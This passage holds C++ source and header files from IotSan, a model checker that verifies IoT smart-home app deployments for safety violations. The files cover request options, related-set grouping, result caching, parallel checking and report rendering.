                "%-28s verdict=%-22s phase1=%3.0f%% (%d cfg)  "
                "phase2=%3.0f%% (%d cfg)",
                app_name.c_str(), std::string(VerdictName(result.verdict)).c_str(),
                result.phase1_ratio * 100, result.phase1_configs,
                result.phase2_ratio * 100, result.phase2_configs);
  std::string out = buffer;
  if (!result.violated_properties.empty()) {
    out += "  violates: " + strings::Join(result.violated_properties, ",");
  }
  return out;
}

}  // namespace iotsan::attrib
