// Shared check/attribute entry point for every front end.
//
// The CLI (tools/iotsan_cli.cpp) and the verification service
// (src/server) assemble requests from different surfaces — flag tables
// vs. HTTP JSON bodies — but both funnel into the request structs here,
// and both render reports through the same functions, so the two can
// never drift: the server's `text` field is byte-identical to what
// `iotsan check` / `iotsan attribute` print for the same inputs (modulo
// the CLI-only --stats / telemetry / artifact insertions, which are
// composed around these pieces, not inside them).
#pragma once

#include <atomic>
#include <map>
#include <string>
#include <vector>

#include "attrib/output_analyzer.hpp"
#include "core/sanitizer.hpp"
#include "props/property.hpp"
#include "util/json.hpp"

namespace iotsan::util {
class ThreadPool;
}  // namespace iotsan::util

namespace iotsan::core {

/// The result-affecting options a check/attribute request may carry,
/// mirroring the CLI flags of the same names.  Defaults match the CLI.
struct RequestOptions {
  int events = -1;  // -1 = the command's default (check: 3, attribute: 2)
  int jobs = 1;     // worker threads (0 = hardware concurrency)
  bool failures = false;
  bool mono = false;
  bool bitstate = false;
  int bitstate_bits_pow = 0;  // 0 = default (27)
  bool por = false;               // ample-set partial-order reduction
  bool state_compression = false; // COLLAPSE store-key compression
  bool first = false;
  bool reverify_bitstate = false;
  bool allow_discovery = false;
  /// Wall-clock budget per request in seconds (0 = none).  Rides the
  /// checker's existing CancelFn budget plumbing; a hit run reports
  /// `completed = false` ("budget hit") and is never cached.
  double deadline_seconds = 0;
  /// Cluster work-unit subset (src/cluster).  Non-empty `group_apps`
  /// switches the request from "check the whole deployment" to "check
  /// exactly this related-set group": indices into deployment.apps, as
  /// planned by the coordinator's PlanGroups.  Served by RunCheckUnit.
  std::vector<std::size_t> group_apps;
  /// Root-branch shard of the group (0/1 = whole group); see
  /// checker::CheckOptions::branch_modulus.
  unsigned branch_modulus = 0;
  unsigned branch_residue = 0;
  /// Bitstate swarm-lane hash seed (0 = default family).
  std::uint64_t bitstate_seed = 0;
};

/// Execution environment shared across requests (none of it owned):
/// the result cache and thread pool a resident server keeps warm, plus
/// an optional interrupt flag (signal handler / shutdown) polled by the
/// search between cascade drains.
struct ServiceEnv {
  cache::ResultCache* cache = nullptr;
  util::ThreadPool* pool = nullptr;
  const std::atomic<bool>* interrupt = nullptr;
  std::uint64_t progress_every = 0;
  telemetry::ProgressCallback on_progress;
  /// Coarse per-group progress (one call per finished related-set
  /// group), independent of the per-state stream above — the server
  /// wires this into its in-flight table and SSE events; the CLI leaves
  /// it empty.
  telemetry::GroupProgressCallback on_group_progress;
  /// Correlation id of the request this run serves ("" outside a
  /// server request).  The server copies the shared env per request and
  /// fills this in; it flows into CheckOptions::request_id from there.
  std::string request_id;
};

// ---- check -------------------------------------------------------------------

struct CheckRequest {
  config::Deployment deployment;
  /// App sources by definition name (overrides/extends the corpus).
  std::map<std::string, std::string> extra_sources;
  std::vector<props::Property> extra_properties;
  RequestOptions options;
};

struct CheckResponse {
  SanitizerReport report;
  /// Exactly the text `iotsan check` prints by default (header +
  /// verdict, no --stats/telemetry/artifact lines).
  std::string text;
  int exit_code = 0;  // 0 = clean, 1 = violations found
};

/// Builds the SanitizerOptions the CLI would build from these request
/// options (exposed so callers can tweak before running).
SanitizerOptions MakeCheckOptions(const RequestOptions& options,
                                  const ServiceEnv& env);

/// Runs the full pipeline: the one code path behind `iotsan check` and
/// `POST /v1/check`.
CheckResponse RunCheck(const CheckRequest& request,
                       const ServiceEnv& env = {});

/// Runs one cluster work unit: checks exactly the related-set group
/// named by `request.options.group_apps` (optionally one branch shard /
/// bitstate lane of it) and returns the raw CheckResult.  The
/// coordinator — which planned the group from the same deployment —
/// merges unit results through MergeGroupResult/FinalizeReport, so a
/// sharded run reproduces a single-node report byte for byte.  Throws
/// iotsan::Error on out-of-range app indices.
checker::CheckResult RunCheckUnit(const CheckRequest& request,
                                  const ServiceEnv& env = {});

/// "system: ..." through the "explored ... in ...s" line (plus any
/// REJECTED lines) — everything `iotsan check` prints before the
/// optional --stats block.
std::string RenderCheckHeader(const config::Deployment& deployment,
                              const SanitizerReport& report);

/// The "-- search stats --" block printed under --stats (leading "\n"
/// included).
std::string RenderSearchStats(const SanitizerReport& report, bool bitstate);

/// One FormatViolation block per violation, each newline-terminated
/// (empty string when clean).
std::string RenderViolations(const SanitizerReport& report);

/// "RESULT: ..." line.
std::string RenderResultLine(const SanitizerReport& report);

/// Header + "\n" + violations + result line: the default CLI output.
std::string RenderCheckReport(const config::Deployment& deployment,
                              const SanitizerReport& report);

/// Structured form of the report for the JSON API: verdict, search and
/// store statistics, and the full violation objects
/// (checker::ViolationToJson).
json::Value CheckReportToJson(const config::Deployment& deployment,
                              const SanitizerReport& report);

// ---- attribute ---------------------------------------------------------------

struct AttributeRequest {
  /// SmartScript source of the app being vetted.
  std::string app_source;
  config::Deployment deployment;
  RequestOptions options;
};

struct AttributeResponse {
  attrib::AttributionResult result;
  /// App name parsed from the source.
  std::string app_name;
  /// Exactly the text `iotsan attribute` prints by default.
  std::string text;
  int exit_code = 0;  // 0 = clean, 1 = any other verdict
};

attrib::AttributionOptions MakeAttributionOptions(
    const RequestOptions& options, const ServiceEnv& env);

/// The one code path behind `iotsan attribute` and `POST /v1/attribute`.
AttributeResponse RunAttribute(const AttributeRequest& request,
                               const ServiceEnv& env = {});

/// FormatAttribution plus the safe-configurations line, each
/// newline-terminated.
std::string RenderAttributionReport(const std::string& app_name,
                                    const attrib::AttributionResult& result);

/// Structured form for the JSON API: verdict, ratios, violated
/// properties, evidence, safe configuration count.
json::Value AttributionToJson(const std::string& app_name,
                              const attrib::AttributionResult& result);

// ---- shared helpers ----------------------------------------------------------

/// "16.0 MiB" / "1.5 KiB" / "12 B" — shared by report rendering and the
/// cache maintenance command.
std::string HumanBytes(std::uint64_t bytes);

}  // namespace iotsan::core
