#include "core/sanitizer.hpp"

#include <algorithm>
#include <atomic>
#include <chrono>
#include <memory>
#include <mutex>
#include <set>

#include "cache/result_cache.hpp"
#include "corpus/corpus.hpp"
#include "ir/analyzer.hpp"
#include "model/system_model.hpp"
#include "telemetry/telemetry.hpp"
#include "util/error.hpp"
#include "util/thread_pool.hpp"

namespace iotsan::core {

bool SanitizerReport::HasViolation(const std::string& property_id) const {
  for (const checker::Violation& v : violations) {
    if (v.property_id == property_id) return true;
  }
  return false;
}

std::vector<std::string> SanitizerReport::ViolatedPropertyIds() const {
  std::vector<std::string> ids;
  for (const checker::Violation& v : violations) ids.push_back(v.property_id);
  std::sort(ids.begin(), ids.end());
  return ids;
}

Sanitizer::Sanitizer(config::Deployment deployment)
    : deployment_(std::move(deployment)) {}

void Sanitizer::AddAppSource(const std::string& name,
                             const std::string& source) {
  sources_[name] = source;
}

std::string Sanitizer::SourceFor(const std::string& app_name) const {
  auto it = sources_.find(app_name);
  if (it != sources_.end()) return it->second;
  if (const corpus::CorpusApp* app = corpus::FindApp(app_name)) {
    return app->source;
  }
  throw ConfigError("no source for app '" + app_name +
                    "' (not in the corpus; AddAppSource it)");
}

std::vector<ir::AnalyzedApp> Sanitizer::AnalyzeInstalledApps(
    SanitizerReport& report, std::vector<bool>& rejected,
    bool allow_dynamic_discovery, const std::string& request_id) const {
  telemetry::ScopedSpan span("analyze_apps");
  if (!request_id.empty()) span.Attr("request_id", request_id);
  std::vector<ir::AnalyzedApp> analyzed;
  rejected.assign(deployment_.apps.size(), false);
  for (std::size_t i = 0; i < deployment_.apps.size(); ++i) {
    const config::AppConfig& instance = deployment_.apps[i];
    ir::AnalyzedApp app;
    try {
      app = ir::AnalyzeSource(SourceFor(instance.app), instance.app);
    } catch (const Error& e) {
      if (auto* t = telemetry::Active()) ++t->pipeline.parse_failures;
      report.rejected_apps.push_back(instance.label + ": " + e.what());
      rejected[i] = true;
      analyzed.emplace_back();  // placeholder keeps indices aligned
      continue;
    }
    if (app.dynamic_device_discovery && !allow_dynamic_discovery) {
      report.rejected_apps.push_back(
          instance.label +
          ": uses dynamic device discovery (unsupported, rejected)");
      rejected[i] = true;
    }
    for (const std::string& problem : app.problems) {
      report.analysis_problems.push_back(problem);
    }
    analyzed.push_back(std::move(app));
  }
  return analyzed;
}

model::ModelOptions EffectiveModelOptions(const SanitizerOptions& options) {
  model::ModelOptions model_options = options.model;
  model_options.dynamic_discovery =
      model_options.dynamic_discovery || options.allow_dynamic_discovery;
  // Discovery apps can reach every device, so the permutation space must
  // cover every sensor, not just the subscribed ones.
  model_options.all_sensor_events =
      model_options.all_sensor_events || model_options.dynamic_discovery;
  return model_options;
}

std::vector<props::Property> CandidateProperties(
    const SanitizerOptions& options) {
  std::vector<props::Property> all_properties = props::BuiltinProperties();
  for (const props::Property& p : options.extra_properties) {
    all_properties.push_back(p);
  }
  return all_properties;
}

void MergeGroupResult(SanitizerReport& report, checker::CheckResult result) {
  report.states_explored += result.states_explored;
  report.states_matched += result.states_matched;
  report.transitions += result.transitions;
  report.cascade_drains += result.cascade_drains;
  report.seconds += result.seconds;
  report.completed = report.completed && result.completed;
  report.store_fill_ratio =
      std::max(report.store_fill_ratio, result.store_fill_ratio);
  report.est_omission_probability = std::max(
      report.est_omission_probability, result.est_omission_probability);
  report.store_memory_bytes =
      std::max(report.store_memory_bytes, result.store_memory_bytes);
  report.store_entries += result.store_entries;
  report.compress_pool_entries += result.compress_pool_entries;
  report.compress_pool_bytes =
      std::max(report.compress_pool_bytes, result.compress_pool_bytes);
  report.compress_lookups += result.compress_lookups;
  report.compress_hits += result.compress_hits;
  report.store_bytes_per_state =
      std::max(report.store_bytes_per_state, result.store_bytes_per_state);
  if (report.depth_histogram.size() < result.depth_histogram.size()) {
    report.depth_histogram.resize(result.depth_histogram.size(), 0);
  }
  for (std::size_t i = 0; i < result.depth_histogram.size(); ++i) {
    report.depth_histogram[i] += result.depth_histogram[i];
  }
  for (const checker::Violation& violation : result.violations) {
    report.per_set_violations.push_back(violation);
  }
  for (checker::Violation& violation : result.violations) {
    bool merged = false;
    for (checker::Violation& existing : report.violations) {
      if (existing.property_id == violation.property_id) {
        existing.occurrences += violation.occurrences;
        merged = true;
        break;
      }
    }
    if (!merged) report.violations.push_back(std::move(violation));
  }
}

void FinalizeReport(SanitizerReport& report) {
  std::sort(report.violations.begin(), report.violations.end(),
            [](const checker::Violation& a, const checker::Violation& b) {
              return a.property_id < b.property_id;
            });
}

std::vector<std::vector<std::size_t>> Sanitizer::PlanGroups(
    const SanitizerOptions& options, SanitizerReport& report) const {
  const std::string& request_id = options.check.request_id;
  std::vector<bool> rejected;
  const model::ModelOptions model_options = EffectiveModelOptions(options);
  std::vector<ir::AnalyzedApp> analyzed = AnalyzeInstalledApps(
      report, rejected, model_options.dynamic_discovery, request_id);

  // Index sets of app instances to check together.
  std::vector<std::vector<std::size_t>> groups;
  std::vector<std::size_t> accepted;
  for (std::size_t i = 0; i < analyzed.size(); ++i) {
    if (!rejected[i]) accepted.push_back(i);
  }

  if (options.use_dependency_analysis) {
    telemetry::ScopedSpan deps_span("dependency_analysis");
    if (!request_id.empty()) deps_span.Attr("request_id", request_id);
    // Dependency analysis over accepted instances only.
    std::vector<ir::AnalyzedApp> view;
    for (std::size_t i : accepted) view.push_back(std::move(analyzed[i]));
    report.scale = deps::ComputeScaleStats(view);
    deps::DependencyGraph graph = deps::DependencyGraph::Build(view);
    std::vector<deps::RelatedSet> sets = deps::ComputeRelatedSets(graph);
    report.related_set_count = static_cast<int>(sets.size());
    deps_span.Attr("related_sets",
                   static_cast<std::int64_t>(sets.size()));
    std::set<std::size_t> covered;
    for (const deps::RelatedSet& set : sets) {
      std::vector<std::size_t> group;
      for (int app : set.apps) {
        group.push_back(accepted[static_cast<std::size_t>(app)]);
        covered.insert(accepted[static_cast<std::size_t>(app)]);
      }
      groups.push_back(std::move(group));
    }
    // Apps with no handlers (no vertices) still deserve a pass (their
    // lifecycle may still violate nothing, but invariants about their
    // devices can fire from environment events).
    for (std::size_t i : accepted) {
      if (!covered.count(i)) groups.push_back({i});
    }
  } else {
    if (!accepted.empty()) groups.push_back(accepted);
    report.related_set_count = static_cast<int>(groups.size());
  }
  return groups;
}

cache::GroupKey Sanitizer::GroupKeyFor(const std::vector<std::size_t>& group,
                                       const SanitizerOptions& options,
                                       const std::string& version) const {
  const model::ModelOptions model_options = EffectiveModelOptions(options);
  const std::vector<props::Property> all_properties =
      CandidateProperties(options);
  config::Deployment sub = deployment_;
  sub.apps.clear();
  for (std::size_t i : group) sub.apps.push_back(deployment_.apps[i]);
  cache::GroupKeyInputs inputs;
  inputs.deployment = &sub;
  for (std::size_t i : group) {
    inputs.sources.emplace_back(deployment_.apps[i].app,
                                SourceFor(deployment_.apps[i].app));
  }
  inputs.properties = &all_properties;
  inputs.check = &options.check;
  inputs.model = &model_options;
  inputs.version = version;
  return cache::MakeGroupKey(inputs);
}

checker::CheckResult Sanitizer::CheckGroup(
    const std::vector<std::size_t>& group, const SanitizerOptions& options,
    const checker::CheckOptions& check) const {
  const model::ModelOptions model_options = EffectiveModelOptions(options);
  const std::vector<props::Property> all_properties =
      CandidateProperties(options);
  // Build a sub-deployment with this group's app instances; all devices
  // stay visible so role-based properties bind identically.
  config::Deployment sub = deployment_;
  sub.apps.clear();
  for (std::size_t i : group) sub.apps.push_back(deployment_.apps[i]);

  auto run = [&]() -> checker::CheckResult {
    std::vector<ir::AnalyzedApp> group_apps;
    for (std::size_t i : group) {
      // Re-analyze per group: AnalyzedApp is consumed by SystemModel and
      // related sets may overlap.
      group_apps.push_back(
          ir::AnalyzeSource(SourceFor(deployment_.apps[i].app),
                            deployment_.apps[i].app));
    }
    model::SystemModel model = [&] {
      telemetry::ScopedSpan build_span("model_build");
      build_span.Attr("apps", static_cast<std::int64_t>(group.size()));
      if (!check.request_id.empty()) {
        build_span.Attr("request_id", check.request_id);
      }
      if (auto* t = telemetry::Active()) ++t->pipeline.models_built;
      return model::SystemModel(config::Deployment(sub),
                                std::move(group_apps), model_options);
    }();
    if (!options.extra_properties.empty()) {
      model.SelectProperties(all_properties);
    }
    checker::Checker checker(model);
    return checker.Run(check);
  };

  if (options.cache == nullptr) return run();
  // A group's result is a pure function of this key: a hit skips the
  // re-analysis, model build, and search above.
  cache::GroupKeyInputs inputs;
  inputs.deployment = &sub;
  for (std::size_t i : group) {
    inputs.sources.emplace_back(deployment_.apps[i].app,
                                SourceFor(deployment_.apps[i].app));
  }
  inputs.properties = &all_properties;
  inputs.check = &check;
  inputs.model = &model_options;
  inputs.version = options.cache->version();
  const unsigned effective_jobs =
      check.pool != nullptr ? static_cast<unsigned>(check.pool->jobs())
                            : util::ResolveJobs(check.jobs);
  return options.cache->FetchOrCompute(cache::MakeGroupKey(inputs),
                                       effective_jobs, run);
}

SanitizerReport Sanitizer::Check(const SanitizerOptions& options) const {
  telemetry::ScopedSpan pipeline_span("pipeline");
  pipeline_span.Attr("system", deployment_.name);
  pipeline_span.Attr("apps",
                     static_cast<std::int64_t>(deployment_.apps.size()));
  const std::string& request_id = options.check.request_id;
  if (!request_id.empty()) pipeline_span.Attr("request_id", request_id);
  SanitizerReport report;
  const std::vector<std::vector<std::size_t>> groups =
      PlanGroups(options, report);

  // End-to-end group latency (cache hits included — that is what a
  // caller observes) and the search throughput computed groups achieved.
  // The group-progress tallies are shared across pool workers; the
  // callback itself runs under progress_mutex so subscribers see
  // groups_done advance monotonically.
  std::atomic<std::uint64_t> groups_done{0};
  std::atomic<std::uint64_t> group_states{0};
  std::mutex progress_mutex;
  auto check_group = [&](const std::vector<std::size_t>& group,
                         const checker::CheckOptions& check) {
    const auto group_start = std::chrono::steady_clock::now();
    checker::CheckResult result = CheckGroup(group, options, check);
    if (auto* t = telemetry::Active()) {
      t->search_hist.group_check_duration_us.Record(static_cast<std::uint64_t>(
          std::chrono::duration_cast<std::chrono::microseconds>(
              std::chrono::steady_clock::now() - group_start)
              .count()));
      if (result.seconds > 0) {
        t->search_hist.group_states_per_second.Record(
            static_cast<std::uint64_t>(
                static_cast<double>(result.states_explored) / result.seconds));
      }
    }
    if (options.on_group_progress) {
      telemetry::GroupProgress progress;
      progress.groups_total = groups.size();
      progress.groups_done = groups_done.fetch_add(1) + 1;
      progress.states_explored =
          group_states.fetch_add(result.states_explored) +
          result.states_explored;
      progress.store_memory_bytes = result.store_memory_bytes;
      progress.seconds = result.seconds;
      std::lock_guard<std::mutex> lock(progress_mutex);
      options.on_group_progress(progress);
    }
    return result;
  };

  const unsigned jobs = util::ResolveJobs(options.check.jobs);
  if (jobs > 1 && groups.size() > 1) {
    // Related sets are independent models, so they fan out across the
    // pool; each group's checker fans its root branches over the *same*
    // pool (nested ParallelFor), so one pool serves both layers.
    // Pre-parse the lazily-cached property expressions on this thread —
    // group workers would otherwise race on the shared builtins.  Only
    // invariants carry an expression; monitor kinds have none to parse.
    for (const props::Property& p : props::BuiltinProperties()) {
      if (p.kind == props::PropertyKind::kInvariant) p.ParsedExpression();
    }
    for (const props::Property& p : options.extra_properties) {
      if (p.kind == props::PropertyKind::kInvariant) p.ParsedExpression();
    }
    std::unique_ptr<util::ThreadPool> owned_pool;
    util::ThreadPool* pool = options.check.pool;
    checker::CheckOptions check = options.check;
    if (pool == nullptr) {
      owned_pool = std::make_unique<util::ThreadPool>(jobs);
      pool = owned_pool.get();
      check.pool = pool;
      if (auto* t = telemetry::Active()) {
        ++t->parallel.pools_created;
        t->parallel.workers_spawned += pool->jobs() - 1;
      }
    }
    const auto wall_start = std::chrono::steady_clock::now();
    std::vector<checker::CheckResult> results(groups.size());
    pool->ParallelFor(groups.size(), [&](std::size_t g) {
      results[g] = check_group(groups[g], check);
    });
    // Merge in group order: byte-identical to the serial loop.
    for (checker::CheckResult& result : results) {
      MergeGroupResult(report, std::move(result));
    }
    // Per-group seconds overlap under concurrency; report wall clock.
    report.seconds = std::chrono::duration<double>(
                         std::chrono::steady_clock::now() - wall_start)
                         .count();
    if (auto* t = telemetry::Active()) {
      t->parallel.group_tasks += groups.size();
      if (owned_pool != nullptr) {
        const util::ThreadPool::Stats stats = pool->stats();
        t->parallel.tasks_run += stats.tasks_run;
        t->parallel.tasks_stolen += stats.tasks_stolen;
      }
    }
  } else {
    for (const std::vector<std::size_t>& group : groups) {
      MergeGroupResult(report, check_group(group, options.check));
    }
  }

  FinalizeReport(report);
  return report;
}

}  // namespace iotsan::core
