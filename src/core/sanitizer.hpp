// IotSan end-to-end pipeline (paper Fig. 3).
//
// Sanitizer drives: Translator (SmartScript parsing + analysis) ->
// App Dependency Analyzer (related sets) -> Model Generator -> Model
// Checker -> aggregated report.  The Output Analyzer (attribution) lives
// in src/attrib and consumes the same pipeline.
#pragma once

#include <map>
#include <string>
#include <vector>

#include "cache/fingerprint.hpp"
#include "checker/checker.hpp"
#include "config/deployment.hpp"
#include "deps/dependency_graph.hpp"

namespace iotsan::cache {
class ResultCache;
}  // namespace iotsan::cache

namespace iotsan::core {

struct SanitizerOptions {
  checker::CheckOptions check;
  /// Model-generation knobs (event permutation space).
  model::ModelOptions model;
  /// Split the system into related sets and check each separately (§5).
  /// Disable to check all installed apps in one model.
  bool use_dependency_analysis = true;
  /// EXTENSION: check dynamic-device-discovery apps instead of rejecting
  /// them (see model::ModelOptions::dynamic_discovery).
  bool allow_dynamic_discovery = false;
  /// Additional safety properties beyond the built-ins (user-defined).
  std::vector<props::Property> extra_properties;
  /// Optional result cache (src/cache): per-group verification results
  /// are memoized under their content-addressed fingerprint, so warm
  /// re-checks of unchanged (source, config, options) groups skip the
  /// model build and search entirely.  Not owned; nullptr disables.
  cache::ResultCache* cache = nullptr;
  /// Coarse progress: invoked once per finished related-set group (from
  /// whichever pool thread ran it; invocations are serialized).  This is
  /// a separate stream from `check.on_progress` — the per-state progress
  /// the CLI prints — so wiring it never perturbs CLI output.  Feeds the
  /// server's in-flight table and SSE events (docs/server.md).
  telemetry::GroupProgressCallback on_group_progress;
};

struct SanitizerReport {
  /// Union of violations across related sets, one entry per property.
  std::vector<checker::Violation> violations;
  /// Un-merged violations: one entry per (related set, property).  This
  /// is the unit the paper's Table 5/6 count ("147 violations of 20
  /// properties": the same property violated by different app groups
  /// counts once per group).
  std::vector<checker::Violation> per_set_violations;
  /// Apps rejected up-front (dynamic device discovery, parse failures).
  std::vector<std::string> rejected_apps;
  /// Static-analysis diagnostics (type problems etc.), non-fatal.
  std::vector<std::string> analysis_problems;
  /// Dependency-analysis statistics (Table 7a).
  deps::ScaleStats scale;
  int related_set_count = 0;
  std::uint64_t states_explored = 0;
  std::uint64_t states_matched = 0;
  std::uint64_t transitions = 0;
  std::uint64_t cascade_drains = 0;
  double seconds = 0;
  bool completed = true;
  /// Store diagnostics aggregated across related-set runs: the worst
  /// (largest) fill ratio and omission estimate decide whether the whole
  /// report's coverage can be trusted; memory is the peak single store.
  double store_fill_ratio = 0;
  double est_omission_probability = 0;
  std::uint64_t store_memory_bytes = 0;
  /// Stored states summed across runs (exhaustive store only).
  std::uint64_t store_entries = 0;
  /// COLLAPSE diagnostics (zero unless check.state_compression): summed
  /// intern-pool traffic, the peak single run's pool footprint, and the
  /// worst per-state store cost across runs.
  std::uint64_t compress_pool_entries = 0;
  std::uint64_t compress_pool_bytes = 0;
  std::uint64_t compress_lookups = 0;
  std::uint64_t compress_hits = 0;
  double store_bytes_per_state = 0;
  /// Element-wise sum of the per-run depth histograms.
  std::vector<std::uint64_t> depth_histogram;

  bool HasViolation(const std::string& property_id) const;
  /// Ids of violated properties, sorted.
  std::vector<std::string> ViolatedPropertyIds() const;
};

/// The model options Check derives from `options`: dynamic discovery
/// implies covering every sensor's events.
model::ModelOptions EffectiveModelOptions(const SanitizerOptions& options);

/// The candidate property set (built-ins + user extras).  The model
/// filters it by applicability deterministically from the deployment,
/// so this is the set the cache key fingerprints.
std::vector<props::Property> CandidateProperties(
    const SanitizerOptions& options);

/// Folds one related-set group's result into the aggregate report:
/// counters sum, store diagnostics take the worst run, per-set
/// violations append, merged violations sum occurrences per property.
void MergeGroupResult(SanitizerReport& report, checker::CheckResult result);

/// Deterministic final ordering: violations sorted by property id.
/// Call once after the last MergeGroupResult.
void FinalizeReport(SanitizerReport& report);

class Sanitizer {
 public:
  /// `deployment` names the installed apps; sources are resolved from the
  /// bundled corpus, overridable/extendable via AddAppSource.
  explicit Sanitizer(config::Deployment deployment);

  /// Registers (or overrides) an app source by definition name.
  void AddAppSource(const std::string& name, const std::string& source);

  /// Runs the full pipeline.
  SanitizerReport Check(const SanitizerOptions& options = {}) const;

  /// Analyzes the installed apps and computes the related-set groups
  /// Check dispatches (each a vector of indices into
  /// deployment().apps), filling the report's rejection/analysis/scale
  /// fields exactly as Check does.  Exposed so the fleet registry's
  /// delta re-verification (src/registry) can classify groups without
  /// running them.
  std::vector<std::vector<std::size_t>> PlanGroups(
      const SanitizerOptions& options, SanitizerReport& report) const;

  /// The content-addressed fingerprint of one group under `options` —
  /// the exact key the result cache memoizes the group's result under.
  cache::GroupKey GroupKeyFor(const std::vector<std::size_t>& group,
                              const SanitizerOptions& options,
                              const std::string& version) const;

  /// Builds, property-selects, and checks one related-set group,
  /// consulting `options.cache` when set.  `check` is `options.check`,
  /// possibly rebound to a shared pool by a parallel dispatcher.
  checker::CheckResult CheckGroup(const std::vector<std::size_t>& group,
                                  const SanitizerOptions& options,
                                  const checker::CheckOptions& check) const;

  const config::Deployment& deployment() const { return deployment_; }

 private:
  config::Deployment deployment_;
  std::map<std::string, std::string> sources_;

  std::string SourceFor(const std::string& app_name) const;
  std::vector<ir::AnalyzedApp> AnalyzeInstalledApps(
      SanitizerReport& report, std::vector<bool>& rejected,
      bool allow_dynamic_discovery, const std::string& request_id) const;
};

}  // namespace iotsan::core
