#include "core/service.hpp"

#include <cstdio>

#include "cache/result_cache.hpp"
#include "dsl/parser.hpp"
#include "util/error.hpp"

namespace iotsan::core {

namespace {

/// printf into a growing std::string — the renderers must reproduce the
/// CLI's historical printf formatting byte for byte.
template <typename... Args>
void Appendf(std::string& out, const char* format, Args... args) {
  char buffer[512];
  const int n = std::snprintf(buffer, sizeof(buffer), format, args...);
  if (n <= 0) return;
  if (static_cast<std::size_t>(n) < sizeof(buffer)) {
    out.append(buffer, static_cast<std::size_t>(n));
    return;
  }
  std::string big(static_cast<std::size_t>(n) + 1, '\0');
  std::snprintf(big.data(), big.size(), format, args...);
  big.resize(static_cast<std::size_t>(n));
  out += big;
}

void ApplyCommonCheckOptions(checker::CheckOptions& check,
                             const RequestOptions& options,
                             const ServiceEnv& env) {
  check.jobs = options.jobs;
  check.pool = env.pool;
  check.reverify_bitstate = options.reverify_bitstate;
  check.por = options.por;
  check.state_compression = options.state_compression;
  if (options.bitstate) {
    check.store = checker::StoreKind::kBitstate;
    if (options.bitstate_bits_pow > 0) {
      check.bitstate_bits = std::size_t{1} << options.bitstate_bits_pow;
    }
  }
  check.time_budget_seconds = options.deadline_seconds;
  check.branch_modulus = options.branch_modulus;
  check.branch_residue = options.branch_residue;
  check.bitstate_seed = options.bitstate_seed;
  check.interrupt = env.interrupt;
  check.request_id = env.request_id;
  if (env.progress_every > 0) {
    check.progress_every = env.progress_every;
    check.on_progress = env.on_progress;
  }
}

}  // namespace

SanitizerOptions MakeCheckOptions(const RequestOptions& options,
                                  const ServiceEnv& env) {
  SanitizerOptions out;
  out.check.max_events = options.events > 0 ? options.events : 3;
  out.check.model_failures = options.failures;
  out.check.stop_at_first_violation = options.first;
  out.use_dependency_analysis = !options.mono;
  out.allow_dynamic_discovery = options.allow_discovery;
  ApplyCommonCheckOptions(out.check, options, env);
  out.cache = env.cache;
  out.on_group_progress = env.on_group_progress;
  return out;
}

CheckResponse RunCheck(const CheckRequest& request, const ServiceEnv& env) {
  Sanitizer sanitizer(request.deployment);
  for (const auto& [name, source] : request.extra_sources) {
    sanitizer.AddAppSource(name, source);
  }
  SanitizerOptions options = MakeCheckOptions(request.options, env);
  options.extra_properties = request.extra_properties;

  CheckResponse response;
  response.report = sanitizer.Check(options);
  response.text = RenderCheckReport(request.deployment, response.report);
  response.exit_code = response.report.violations.empty() ? 0 : 1;
  return response;
}

checker::CheckResult RunCheckUnit(const CheckRequest& request,
                                  const ServiceEnv& env) {
  for (std::size_t index : request.options.group_apps) {
    if (index >= request.deployment.apps.size()) {
      throw Error("check unit: app index " + std::to_string(index) +
                  " out of range (deployment has " +
                  std::to_string(request.deployment.apps.size()) + " apps)");
    }
  }
  Sanitizer sanitizer(request.deployment);
  for (const auto& [name, source] : request.extra_sources) {
    sanitizer.AddAppSource(name, source);
  }
  SanitizerOptions options = MakeCheckOptions(request.options, env);
  options.extra_properties = request.extra_properties;
  return sanitizer.CheckGroup(request.options.group_apps, options,
                              options.check);
}

std::string RenderCheckHeader(const config::Deployment& deployment,
                              const SanitizerReport& report) {
  std::string out;
  Appendf(out, "system: %s (%zu devices, %zu apps)\n",
          deployment.name.c_str(), deployment.devices.size(),
          deployment.apps.size());
  for (const std::string& rejected : report.rejected_apps) {
    Appendf(out, "REJECTED: %s\n", rejected.c_str());
  }
  Appendf(out,
          "dependency analysis: %d handlers -> %d related sets "
          "(scale ratio %.1f)\n",
          report.scale.original_size, report.related_set_count,
          report.scale.ratio);
  Appendf(out, "explored %llu states (%llu matched) in %.3fs%s\n",
          static_cast<unsigned long long>(report.states_explored),
          static_cast<unsigned long long>(report.states_matched),
          report.seconds, report.completed ? "" : " (budget hit)");
  return out;
}

std::string RenderSearchStats(const SanitizerReport& report, bool bitstate) {
  std::string out;
  Appendf(out, "\n-- search stats --\n");
  const double considered =
      static_cast<double>(report.states_explored + report.states_matched);
  Appendf(out, "states: %llu explored, %llu matched (%.1f%% pruned)\n",
          static_cast<unsigned long long>(report.states_explored),
          static_cast<unsigned long long>(report.states_matched),
          considered > 0 ? 100.0 * static_cast<double>(report.states_matched) /
                               considered
                         : 0.0);
  Appendf(out, "transitions: %llu, cascade drains: %llu\n",
          static_cast<unsigned long long>(report.transitions),
          static_cast<unsigned long long>(report.cascade_drains));
  if (!report.depth_histogram.empty()) {
    Appendf(out, "states by depth:");
    for (std::uint64_t count : report.depth_histogram) {
      Appendf(out, " %llu", static_cast<unsigned long long>(count));
    }
    Appendf(out, "\n");
  }
  Appendf(out,
          "store: %s, peak %s, fill ratio %.4f, est. omission "
          "probability %.3g\n",
          bitstate ? "bitstate" : "exhaustive",
          HumanBytes(report.store_memory_bytes).c_str(),
          report.store_fill_ratio, report.est_omission_probability);
  return out;
}

std::string RenderViolations(const SanitizerReport& report) {
  std::string out;
  for (const checker::Violation& v : report.violations) {
    Appendf(out, "%s\n", checker::FormatViolation(v).c_str());
  }
  return out;
}

std::string RenderResultLine(const SanitizerReport& report) {
  std::string out;
  if (report.violations.empty()) {
    Appendf(out, "RESULT: no safety violations found\n");
  } else {
    Appendf(out, "RESULT: %zu violated propert%s\n", report.violations.size(),
            report.violations.size() == 1 ? "y" : "ies");
  }
  return out;
}

std::string RenderCheckReport(const config::Deployment& deployment,
                              const SanitizerReport& report) {
  return RenderCheckHeader(deployment, report) + "\n" +
         RenderViolations(report) + RenderResultLine(report);
}

json::Value CheckReportToJson(const config::Deployment& deployment,
                              const SanitizerReport& report) {
  json::Object doc;
  doc["system"] = deployment.name;
  doc["devices"] = static_cast<std::int64_t>(deployment.devices.size());
  doc["apps"] = static_cast<std::int64_t>(deployment.apps.size());
  doc["verdict"] = report.violations.empty() ? "clean" : "violations";
  json::Array rejected;
